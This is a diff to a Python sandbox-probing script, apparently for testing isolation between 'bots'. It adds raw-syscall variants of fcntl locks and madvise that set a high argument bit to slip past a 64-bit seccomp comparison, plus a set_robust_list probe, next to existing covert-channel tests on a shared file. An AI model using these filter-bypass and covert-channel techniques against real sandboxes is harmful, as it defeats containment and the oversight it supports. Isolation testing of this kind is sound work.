@@ -35,6 +35,8 @@ libc = ctypes.CDLL(None, use_errno=True)
 libc.syscall.restype = ctypes.c_long
 SHARED = "/usr/bin/env"  # any file every bot can read
 SYS_CLONE, SYS_CACHESTAT, SYS_PIDFD_OPEN, SYS_PROCESS_MADVISE = 56, 451, 434, 440  # x86_64
+SYS_MADVISE, SYS_FCNTL, SYS_SET_ROBUST_LIST = 28, 72, 273
+HIGH = 1 << 32  # a high bit the kernel ignores in an int argument: a filter comparing 64 bits does not
 MADV = {"cold": 20, "pageout": 21, "willneed": 3, "remove": 9, "populate_read": 22}
 CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
 F_OFD_SETLK, F_SETLEASE, F_NOTIFY, DN_ACCESS = 37, 1024, 1026, 1
@@ -70,6 +72,17 @@ def with_shared(action):  # type: ignore[no-untyped-def]
 
 def ofd_lock(fd: int) -> None:
     fcntl.fcntl(fd, F_OFD_SETLK, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0))
+
+
+def ofd_lock_high(fd: int) -> int:
+    lock = ctypes.create_string_buffer(struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0))
+    return check(libc.syscall(SYS_FCNTL, fd, ctypes.c_long(HIGH | F_OFD_SETLK), lock))
+
+
+def robust_list() -> int:
+    head = (ctypes.c_void_p * 3)()
+    head[0] = ctypes.addressof(head)  # an empty list: it points to itself
+    return check(libc.syscall(SYS_SET_ROBUST_LIST, ctypes.byref(head), ctypes.sizeof(head)))
 
 
 def raw_clone_newuser() -> str:
@@ -186,6 +199,17 @@ def process_madvise(advice: int):  # type: ignore[no-untyped-def]
     return with_shared(run)
 
 
+def madvise_high(advice: int):  # type: ignore[no-untyped-def]
+    """``madvise`` by its raw call, the advice with a high bit set."""
+    def run(fd: int) -> int:
+        libc.mmap.restype = ctypes.c_void_p
+        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
+                              ctypes.c_long]
+        address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
+        return check(libc.syscall(SYS_MADVISE, ctypes.c_void_p(address), 4096, ctypes.c_long(HIGH | advice)))
+    return with_shared(run)
+
+
 class SysInfo(ctypes.Structure):
     _fields_ = [("uptime", ctypes.c_long), ("loads", ctypes.c_ulong * 3), ("totalram", ctypes.c_ulong),
                 ("freeram", ctypes.c_ulong), ("sharedram", ctypes.c_ulong), ("bufferram", ctypes.c_ulong),
@@ -209,6 +233,8 @@ def attack() -> dict[str, object]:
         "flock": outcome(with_shared(lambda fd: fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB))),
         "fcntl_lock": outcome(with_shared(lambda fd: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 0))),
         "ofd_lock": outcome(with_shared(ofd_lock)),
+        "ofd_lock_high_bit": outcome(with_shared(ofd_lock_high)),
+        "robust_list": outcome(robust_list),
         "lease": outcome(with_shared(lambda fd: fcntl.fcntl(fd, F_SETLEASE, fcntl.F_RDLCK))),
         "inotify": outcome(inotify),
         "dnotify": outcome(dnotify),
@@ -235,6 +261,8 @@ def attack() -> dict[str, object]:
         "plain_read": outcome(with_shared(lambda fd: len(os.pread(fd, 1, 0)))),
         **{f"madvise_{name}": outcome(madvise(advice)) for name, advice in MADV.items()},
         "process_madvise_pageout": outcome(process_madvise(MADV["pageout"])),
+        "madvise_pageout_high_bit": outcome(madvise_high(MADV["pageout"])),
+        "madvise_willneed_high_bit": outcome(madvise_high(MADV["willneed"])),
         "process_madvise_willneed": outcome(process_madvise(MADV["willneed"])),
         "sysinfo": outcome(sysinfo),
         "statfs": outcome(lambda: os.statvfs("/usr").f_bfree),
